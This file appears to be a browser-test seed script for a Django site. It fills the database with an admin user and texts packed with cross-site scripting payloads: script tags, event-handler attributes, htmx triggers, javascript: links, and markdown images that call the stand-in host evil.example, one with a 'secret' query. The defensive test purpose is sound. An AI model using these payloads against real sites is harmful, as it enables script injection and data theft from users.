"""A site whose texts try to run scripts: `python -m tests.browser.seed.hostile`.

Each payload would open a dialog, set `pwned`, or make a request to `EVIL`.
"""

import os

import django

os.environ.setdefault("DJANGO_SETTINGS_MODULE", "agentsite.settings")
django.setup()

from django.contrib.auth.models import Group  # noqa: E402  # after the set-up

from tests.make import make_user  # noqa: E402
from tests.makers.world import Texts, make_world  # noqa: E402

EVIL = "evil.example"
SCRIPT = f"pwned=1;alert(1);fetch('https://{EVIL}/x')"
HTML = [
    f"<script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"</textarea></title></style></pre><script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f"<img src=https://{EVIL}/x.png>",
    f'<svg onload="{SCRIPT}"></svg>',
    f"<svg><script>{SCRIPT}</script></svg>",
    f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}">',
    f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>">',
    f'<body onload="{SCRIPT}">',
    f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    f"<iframe src=https://{EVIL}/></iframe>",
    f"<object data=https://{EVIL}/x></object><embed src=https://{EVIL}/x>",
    f'<input autofocus onfocus="{SCRIPT}">',
    f'<details open ontoggle="{SCRIPT}"><summary>x</summary></details>',
    f'<video><source onerror="{SCRIPT}"></video>',
    f'<marquee onstart="{SCRIPT}">x</marquee>',
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<style>@import url(https://{EVIL}/x.css);</style>",
    f"<p style=background:url(https://{EVIL}/x)>x</p>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}/><button autofocus>x</button></form>",
    '<button hx-post="/runs/" hx-trigger="load">x</button>',
    f'<div hx-get="https://{EVIL}/x" hx-trigger="load" data-hx-get="/x">x</div>',
    f'<div hx-on:load="{SCRIPT}" hx-trigger="load" hx-get="/x">x</div>',
    f'<hx-partial hx-target="body"><script>{SCRIPT}</script></hx-partial>',
    f"\" autofocus onfocus='{SCRIPT}' x=\"",
    f"' onmouseover='{SCRIPT}' x='",
    f"javascript:{SCRIPT}",
    f"<!--><script>{SCRIPT}</script>-->",
    f"<![CDATA[<script>{SCRIPT}</script>]]>",
    f"{{{{ {SCRIPT} }}}}{{% debug %}}",
    f"＜script＞{SCRIPT}＜/script＞ &lt;script&gt;{SCRIPT}&lt;/script&gt;",
]
MARKDOWN = [
    *HTML,
    f"![x](https://{EVIL}/x.png?q=secret)",
    f"![x][r]\n\n[r]: https://{EVIL}/x.png",
    f"[x](javascript:{SCRIPT.replace(' ', '')})",
    f"[x](JaVaScRiPt&colon;{SCRIPT})",
    f"[x](data:text/html,<script>{SCRIPT}</script>)",
    f"[x](vbscript:{SCRIPT})",
    f"<javascript:{SCRIPT}>",
    f'[x](https://a.example "onmouseover={SCRIPT}")',
    f"`` <script>{SCRIPT}</script> ``",
    f'```"><script>{SCRIPT}</script>\n<script>{SCRIPT}</script>\n```',
    f"```html\n<script>{SCRIPT}</script>\n```",
    f"| <script>{SCRIPT}</script> |\n|---|\n| <img src=x onerror={SCRIPT}> |",
    f"# <script>{SCRIPT}</script>",
    f"[<img src=x onerror={SCRIPT}>](https://a.example)",
]
SHORT = '"><img src=x onerror="pwned=1;alert(1)">'
PAYLOADS = "\n\n".join(MARKDOWN)


def main() -> None:
    """Fill the database."""
    group = Group.objects.create(name=HTML[0][:100])
    admin = make_user(
        "admin",
        is_superuser=True,
        password="admin",
        first_name=SHORT[:100],
        last_name=HTML[0][:100],
    )
    admin.groups.add(group)
    make_world(admin, group, Texts(name=SHORT, body=PAYLOADS, slug="hostile"))


if __name__ == "__main__":
    main()
